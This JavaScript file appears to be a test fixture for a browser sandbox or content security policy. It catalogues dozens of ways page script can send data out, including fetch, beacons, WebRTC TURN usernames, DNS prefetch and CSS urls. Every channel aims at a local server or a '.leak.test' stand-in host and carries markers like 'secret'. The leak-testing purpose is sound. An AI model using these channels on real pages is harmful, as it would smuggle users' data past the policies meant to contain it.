/**
 * Every way out of a page that we know of, as script in the page would try it: evaluated as text in the page. Each gets the address
 * of a listening server and either throws, or has tried.
 */
globalThis.channelsTo = ({ web, raw, udp, label }) => ({
  fetch: (u) => fetch(u, { mode: 'no-cors' }),
  xhr: (u) =>
    new Promise((r, j) => {
      const x = new XMLHttpRequest();
      x.open('GET', u);
      x.onload = r;
      x.onerror = () => j(new Error('xhr error'));
      x.send();
    }),
  websocket: (u) =>
    new Promise((r, j) => {
      const w = new WebSocket(u.replace('http', 'ws'));
      w.onopen = r;
      w.onerror = () => j(new Error('ws'));
    }),
  eventsource: (u) =>
    new Promise((r, j) => {
      const w = new EventSource(u);
      w.onopen = r;
      w.onerror = () => j(new Error('es'));
    }),
  beacon: (u) => {
    if (!navigator.sendBeacon(u, 'secret')) throw new Error('beacon false');
  },
  fetchKeepalive: (u) => fetch(u, { keepalive: true, mode: 'no-cors', method: 'POST', body: 'secret' }),
  fetchLater: (u) => {
    if (typeof fetchLater === 'undefined') throw new Error('absent');
    return fetchLater(u, { activateAfter: 0 });
  },
  image: (u) =>
    new Promise((r, j) => {
      const i = new Image();
      i.onload = r;
      i.onerror = () => j(new Error('img'));
      i.src = u;
    }),
  imageBlobSvg: async (u) => {
    const b = new Blob([`<svg xmlns="http://www.w3.org/2000/svg"><image href="${u}"/></svg>`], {
      type: 'image/svg+xml',
    });
    const i = new Image();
    i.src = URL.createObjectURL(b);
    await new Promise((r, j) => {
      i.onload = r;
      i.onerror = () => j(new Error('img'));
    });
  },
  imageDataSvg: async (u) => {
    const i = new Image();
    i.src =
      'data:image/svg+xml,' +
      encodeURIComponent(
        `<svg xmlns="http://www.w3.org/2000/svg"><image href="${u}"/><style>@import url(${u})</style></svg>`,
      );
    await new Promise((r, j) => {
      i.onload = r;
      i.onerror = () => j(new Error('img'));
    });
  },
  cssInlineStyleEl: (u) => {
    const s = document.createElement('style');
    s.textContent = `body{background:url(${u})}`;
    document.head.append(s);
  },
  cssom: (u) => {
    document.body.style.backgroundImage = `url(${u})`;
  },
  cssomSheet: (u) => {
    const s = new CSSStyleSheet();
    s.replaceSync(`body{background-image:url(${u}2)} @font-face{font-family:x;src:url(${u}font)} body{font-family:x}`);
    document.adoptedStyleSheets = [s];
  },
  cssInsertRule: (u) => {
    document.styleSheets[0].insertRule(`html{background:url(${u})}`);
  },
  linkStylesheet: (u) => {
    const l = document.createElement('link');
    l.rel = 'stylesheet';
    l.href = u;
    document.head.append(l);
  },
  linkPrefetch: (u) => {
    const l = document.createElement('link');
    l.rel = 'prefetch';
    l.href = u;
    document.head.append(l);
  },
  linkPreload: (u) => {
    const l = document.createElement('link');
    l.rel = 'preload';
    l.as = 'image';
    l.href = u;
    document.head.append(l);
  },
  linkModulepreload: (u) => {
    const l = document.createElement('link');
    l.rel = 'modulepreload';
    l.href = u + '.js';
    document.head.append(l);
  },
  linkPrerender: (u) => {
    const l = document.createElement('link');
    l.rel = 'prerender';
    l.href = u;
    document.head.append(l);
  },
  linkManifest: (u) => {
    const l = document.createElement('link');
    l.rel = 'manifest';
    l.href = u;
    document.head.append(l);
  },
  linkIcon: (u) => {
    const l = document.createElement('link');
    l.rel = 'icon';
    l.href = u;
    document.head.append(l);
  },
  linkPreconnect: (u) => {
    const l = document.createElement('link');
    l.rel = 'preconnect';
    l.href = `http://127.0.0.1:${raw}/`;
    document.head.append(l);
  },
  linkDnsPrefetch: (u) => {
    for (const h of [`//dnsprefetch-${label}.leak.test`]) {
      const l = document.createElement('link');
      l.rel = 'dns-prefetch';
      l.href = h;
      document.head.append(l);
    }
  },
  linkPreconnectName: (u) => {
    const l = document.createElement('link');
    l.rel = 'preconnect';
    l.href = `https://preconnect-${label}.leak.test`;
    document.head.append(l);
  },
  anchorHrefImplicitDns: (u) => {
    const a = document.createElement('a');
    a.href = `http://anchor-${label}.leak.test/`;
    a.textContent = 'x';
    document.body.append(a);
  },
  speculationRules: (u) => {
    const s = document.createElement('script');
    s.type = 'speculationrules';
    s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [u], requires: [] }] });
    document.head.append(s);
  },
  script: (u) =>
    new Promise((r, j) => {
      const s = document.createElement('script');
      s.src = u + '.js';
      s.onload = r;
      s.onerror = () => j(new Error('script'));
      document.head.append(s);
    }),
  inlineScript: (u) => {
    const s = document.createElement('script');
    s.textContent = 'window.__inline=1';
    document.head.append(s);
    if (!window.__inline) throw new Error('inline refused');
  },
  inlineHandler: (u) => {
    const d = document.createElement('div');
    d.innerHTML = '<img src=x onerror="window.__h=1">';
    document.body.append(d);
    return new Promise((r, j) => setTimeout(() => (window.__h ? r() : j(new Error('handler refused'))), 500));
  },
  evalCode: () => eval('1+1'),
  importDyn: (u) => import(u + '.js'),
  importData: (u) => import('data:text/javascript,window.__d=1'),
  importBlob: (u) => import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))),
  workerBlob: (u) =>
    new Promise((r, j) => {
      const w = new Worker(URL.createObjectURL(new Blob([`fetch("${u}",{mode:"no-cors"}).then(()=>postMessage(1))`])));
      w.onmessage = r;
      w.onerror = () => j(new Error('worker'));
      setTimeout(() => j(new Error('timeout')), 1500);
    }),
  workerData: (u) =>
    new Promise((r, j) => {
      const w = new Worker('data:text/javascript,postMessage(1)');
      w.onmessage = r;
      w.onerror = () => j(new Error('worker'));
    }),
  sharedWorker: (u) =>
    new Promise((r, j) => {
      const w = new SharedWorker(u + '.js');
      w.onerror = () => j(new Error('sw'));
      setTimeout(() => r(), 800);
    }),
  wasmStreaming: (u) => WebAssembly.compileStreaming(fetch(u)),
  form: (u) => {
    const f = document.createElement('form');
    f.action = u;
    f.method = 'POST';
    f.target = '_blank';
    document.body.append(f);
    f.submit();
  },
  formSelf: (u) => {
    const f = document.createElement('form');
    f.action = u;
    document.body.append(f);
    f.submit();
  },
  iframe: (u) => {
    const f = document.createElement('iframe');
    f.src = u;
    document.body.append(f);
  },
  iframeSrcdoc: (u) => {
    const f = document.createElement('iframe');
    f.srcdoc = `<img src="${u}"><script src="${u}.js"></` + `script><meta http-equiv=refresh content="0;url=${u}">`;
    document.body.append(f);
  },
  iframeBlob: (u) => {
    const f = document.createElement('iframe');
    f.src = URL.createObjectURL(new Blob([`<img src="${u}">`], { type: 'text/html' }));
    document.body.append(f);
  },
  iframeData: (u) => {
    const f = document.createElement('iframe');
    f.src = 'data:text/html,<img src=' + u + '>';
    document.body.append(f);
  },
  object: (u) => {
    const f = document.createElement('object');
    f.data = u;
    document.body.append(f);
  },
  embed: (u) => {
    const f = document.createElement('embed');
    f.src = u;
    document.body.append(f);
  },
  video: (u) => {
    const f = document.createElement('video');
    f.src = u;
    document.body.append(f);
    f.load();
  },
  poster: (u) => {
    const f = document.createElement('video');
    f.poster = u;
    document.body.append(f);
  },
  track: (u) => {
    const f = document.createElement('audio');
    f.src = u;
    f.play().catch(() => {});
  },
  fontface: (u) => new FontFace('y', `url(${u})`).load(),
  svgUse: (u) => {
    document.body.insertAdjacentHTML(
      'beforeend',
      `<svg><use href="${u}#x"/><image href="${u}i"/><filter id=f><feImage href="${u}f"/></filter></svg>`,
    );
  },
  cspReport: (u) => {
    const m = document.createElement('meta');
    m.httpEquiv = 'Content-Security-Policy';
    m.content = `img-src 'none'; report-uri ${u}`;
    document.head.append(m);
    new Image().src = '/icon.svg?x';
  },
  metaRefreshNo: (u) => {
    const i = document.createElement('meta');
    i.httpEquiv = 'x-dns-prefetch-control';
    i.content = 'on';
    document.head.append(i);
  },
  pingAnchor: (u) => {
    const a = document.createElement('a');
    a.href = '#x';
    a.ping = u;
    document.body.append(a);
    a.click();
  },
  attributionsrc: (u) => {
    const i = document.createElement('img');
    i.setAttribute('attributionsrc', u);
    i.src = '/icon.svg';
    document.body.append(i);
  },
  cacheAdd: async (u) => {
    const c = await caches.open('t');
    await c.add(new Request(u, { mode: 'no-cors' }));
  },
  swRegister: (u) => navigator.serviceWorker.register(u + '.js'),
  backgroundFetch: async (u) => {
    const r = await navigator.serviceWorker.ready;
    return r.backgroundFetch.fetch('a', u);
  },
  paymentReq: (u) => {
    const p = new PaymentRequest([{ supportedMethods: u }], {
      total: { label: 'x', amount: { currency: 'USD', value: '1' } },
    });
    return p.canMakePayment();
  },
  credentialFed: (u) => navigator.credentials.get({ identity: { providers: [{ configURL: u, clientId: '1' }] } }),
  webtransport: (u) => {
    const w = new WebTransport('https://127.0.0.1:' + web + '/');
    return w.ready;
  },
  webrtcStun: (u) =>
    new Promise((r, j) => {
      const p = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:127.0.0.1:${udp}` },
          { urls: `turn:127.0.0.1:${udp}`, username: 'PATIENT-John-Smith-HIV', credential: 'x' },
          { urls: `turn:127.0.0.1:${raw}?transport=tcp`, username: 'PATIENT-John-Smith-HIV', credential: 'x' },
        ],
      });
      p.createDataChannel('a');
      p.createOffer().then((o) => p.setLocalDescription(o));
      setTimeout(() => r(), 2500);
    }),
  webrtcDns: (u) => {
    const p = new RTCPeerConnection({ iceServers: [{ urls: `stun:webrtc-${label}.leak.test:3478` }] });
    p.createDataChannel('a');
    return p
      .createOffer()
      .then((o) => p.setLocalDescription(o))
      .then(() => new Promise((r) => setTimeout(r, 800)));
  },
  windowOpen: (u) => {
    const w = window.open(u + '?secret');
    if (!w) throw new Error('popup null');
  },
  anchorBlank: (u) => {
    const a = document.createElement('a');
    a.href = u;
    a.target = '_blank';
    a.rel = 'noopener';
    document.body.append(a);
    a.click();
  },
  anchorDownload: (u) => {
    const a = document.createElement('a');
    a.href = u;
    a.download = 'x';
    document.body.append(a);
    a.click();
  },
  navLocation: (u) => {
    location.href = u + '?secret';
  },
  metaRefresh: (u) => {
    const m = document.createElement('meta');
    m.httpEquiv = 'refresh';
    m.content = '0;url=' + u;
    document.head.append(m);
  },
  mailto: (u) => {
    const a = document.createElement('a');
    a.href = 'mailto:a@leak.test?body=secret';
    document.body.append(a);
    a.click();
  },
  frameWebrtc: (u) => {
    const f = document.createElement('iframe');
    document.body.append(f);
    const p = new f.contentWindow.RTCPeerConnection({
      iceServers: [{ urls: `turn:127.0.0.1:${udp}`, username: 'PATIENT frame', credential: 'x' }],
    });
    p.createDataChannel('a');
    return p
      .createOffer()
      .then((o) => p.setLocalDescription(o))
      .then(() => new Promise((r) => setTimeout(r, 1500)));
  },
  anchorDetached: (u) => {
    const a = document.createElement('a');
    a.href = u;
    a.target = '_blank';
    a.click();
  },
  markup: (u) => {
    const d = document.createElement('div');
    d.innerHTML = `<img src="${u}" onerror="fetch('${u}')">`;
    document.body.append(d);
  },
});
